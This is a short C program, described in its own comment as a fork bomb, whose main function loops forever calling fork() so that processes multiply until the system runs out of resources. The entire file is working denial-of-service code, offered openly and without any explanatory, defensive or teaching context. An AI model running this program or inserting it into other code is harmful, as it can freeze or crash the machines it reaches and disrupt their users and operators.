// Fork bomb: every process forks forever and ignores failures.
#include <unistd.h>

int main() {
    for (;;) {
        fork();
    }
}
